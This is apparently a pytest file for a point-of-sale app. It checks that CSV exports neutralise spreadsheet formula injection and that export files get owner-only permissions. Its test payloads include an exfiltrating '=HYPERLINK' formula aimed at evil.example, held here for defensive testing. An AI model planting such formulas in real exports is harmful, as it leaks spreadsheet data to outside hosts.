"""CSV exports that are safe to open in a spreadsheet, and readable by their owner only."""

import csv
import json
import os
import stat
from datetime import UTC

import openpyxl
import pytest

from popup_pos.domain.report import Column, Table
from popup_pos.exports.csv_folder import write_csv_folder
from popup_pos.services import checkout, reports
from popup_pos.services.checkout import Cart, CartLine, TenderSpec

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+1 555 0100",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def read(path):
    # newline="": a carriage return inside a quoted cell is data, not a line end.
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def strings(node):
    if isinstance(node, dict):
        return [s for v in node.values() for s in strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in strings(v)]
    return [node] if isinstance(node, str) else []


def table(rows):
    columns = (Column("name"), Column("amount", "money"), Column("qty", "int"),
               Column("fulfil_min", "number"))  # fmt: skip
    return Table("t", columns, rows, len(rows))


def test_text_cells_are_guarded_and_numbers_stay_numbers(tmp_path):
    rows = [(p, -1250, -3, -1.5) for p in PAYLOADS] + [("Tour tee", 1250, 2, None)]
    write_csv_folder(tmp_path / "out", [table(rows)], currency="USD", tz=UTC)

    header, *body = read(tmp_path / "out" / "t.csv")
    assert header == ["name", "amount", "qty", "fulfil_min"]
    assert [r[0] for r in body] == [f"'{p}" for p in PAYLOADS] + ["Tour tee"]
    # A refund's -12.50 is a number in a number column, not text to guard.
    assert [r[1:] for r in body[:1]] == [["-12.50", "-3", "-1.50"]]
    assert float(body[0][1]) == -12.5 and int(body[0][2]) == -3
    assert body[-1][1:] == ["12.50", "2", ""]


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_the_folder_and_its_files_are_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        out = tmp_path / "out"
        out.mkdir()  # an earlier export, readable by everyone
        (out / "t.csv").write_text("old")
        write_csv_folder(out, [table([("x", 1, 1, 1.0)])], currency="USD", tz=UTC)
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert stat.S_IMODE((out / "t.csv").stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_an_event_export_guards_what_a_helper_typed(shop, tmp_path):
    reference = PAYLOADS[0]
    checkout.sell(
        shop.uow,
        shop.register_id,
        Cart((CartLine("TEE-M"),)),
        (TenderSpec("wallet", reference=reference),),
    )
    old = os.umask(0o022)
    try:
        reports.export(shop.uow, "csv", tmp_path / "night", tables=["payments"])
        reports.export(shop.uow, "xlsx", tmp_path / "night.xlsx")
        reports.export(shop.uow, "json", tmp_path / "night.json")
        reports.export(shop.uow, "pdf", tmp_path / "night.pdf")
    finally:
        os.umask(old)

    (payment,) = csv.DictReader(
        (tmp_path / "night" / "payments.csv").read_text(encoding="utf-8-sig").splitlines()
    )
    assert payment["reference"] == "'" + reference
    assert float(payment["amount"]) > 0
    # The workbook stores text as text, which never runs; the JSON is data: both unchanged.
    sheet = openpyxl.load_workbook(tmp_path / "night.xlsx")["Payments"]
    refs = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert refs == [reference]
    doc = json.loads((tmp_path / "night.json").read_text(encoding="utf-8"))
    assert reference in strings(doc)
    if os.name == "posix":
        for name in ("night", "night/payments.csv", "night.xlsx", "night.json", "night.pdf"):
            want = 0o700 if name == "night" else 0o600
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == want, name
